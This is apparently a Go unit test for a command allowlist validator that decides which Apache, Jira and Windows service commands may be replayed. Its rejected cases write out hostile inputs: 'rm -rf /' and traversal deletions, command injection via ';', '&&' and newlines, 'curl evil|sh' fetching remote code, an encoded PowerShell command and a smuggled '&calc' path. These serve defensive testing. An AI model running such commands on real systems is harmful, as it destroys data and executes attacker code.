package distro

import "testing"

func TestReplayable(t *testing.T) {
	for _, ok := range []string{
		"a2dismod -q -f proxy_http", "a2dismod -q -f 'proxy_http'", "a2dissite -q 'frontdoor-jira.example.com'", "setsebool -P httpd_can_network_connect 0",
		"systemctl restart apache2", "systemctl stop 'jira'", "service 'jira' start", "apache2ctl configtest 2>&1", "rm -rf /var/lib/apache2/md", "a2ensite -q 'frontdoor-jira.example.com'",
		"'/opt/atlassian/jira/bin/start-jira.sh'", "'/opt/atlassian/crowd/start_crowd.sh'", "'/srv/Atlassian Jira+9/bin/start-jira.sh'", HTTPReady(8080, "jira", 180),
		WinCommand("script", WinParams{Path: `C:\Program Files (x86)\Atlassian\JIRA\bin\start-jira.bat`}),
		WinCommand("service", WinParams{Name: "Apache2.4", Action: "restart"}),
	} {
		if !Replayable(ok) {
			t.Errorf("refused: %q", ok)
		}
	}
	for _, bad := range []string{
		"rm -rf /", "rm -rf /var/lib/apache2/md /", "rm -rf /var/lib/apache2/md/../../..", "rm -rf /var/lib/apache2", "a2ensite -q 'evil'", "a2ensite -q 'frontdoor-x'; id", "a2dismod -q -f proxy; curl evil|sh", "systemctl start 'jira'; id", "'/opt/x/bin/start-jira.sh' && id",
		"'/opt/../etc/bin/start.sh'x", "'/opt/../etc/bin/start.sh'", HTTPReady(8080, "jira", 180) + "; id", "service jira start\nid",
		WinCommand("mkdir", WinParams{Path: `C:\x`}), WinCommand("script", WinParams{Path: `C:\Windows\System32\calc.exe`}),
		WinCommand("script", WinParams{Path: `C:\x&calc\bin\start.bat`}), "powershell -NoProfile -NonInteractive -EncodedCommand ZQBjAGgAbwA=",
	} {
		if Replayable(bad) {
			t.Errorf("accepted: %q", bad)
		}
	}
}
